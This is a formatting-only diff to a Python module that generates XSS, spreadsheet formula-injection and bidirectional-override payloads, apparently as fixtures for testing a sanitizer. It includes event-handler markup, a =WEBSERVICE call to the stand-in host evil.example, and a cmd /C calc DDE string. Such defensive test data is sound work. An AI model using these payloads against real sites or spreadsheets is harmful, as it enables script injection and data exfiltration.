@@ -9,7 +9,17 @@ from __future__ import annotations
 from typing import Final
 
 _HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter")
-_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe", "marquee")
+_TAGS = (
+    "img src=x",
+    "svg",
+    "body",
+    "input autofocus",
+    "details open",
+    "video src=x",
+    "audio src=x",
+    "iframe",
+    "marquee",
+)
 
 MARKUP: Final = tuple(f"<{tag} {handler}=pwned()>" for tag in _TAGS for handler in _HANDLERS[:5])
 
@@ -84,7 +94,9 @@ FORMULAS: Final = (
     "=WEBSERVICE(\"//evil.example\")", "-2+3+cmd|' /C calc'!D2", ";=1+1", "|=1+1",
 )  # fmt: skip
 
-BIDI: Final = tuple(f"safe {mark}<script>pwned()</script>" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
+BIDI: Final = tuple(
+    f"safe {mark}<script>pwned()</script>" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+)
 """Direction overrides: refused in a line, kept as text in a note."""
 
 ALL: Final = tuple(dict.fromkeys(MARKUP + SCRIPT + MUTATION + LINKS + STYLE + LETTERS + FORMULAS + BIDI))
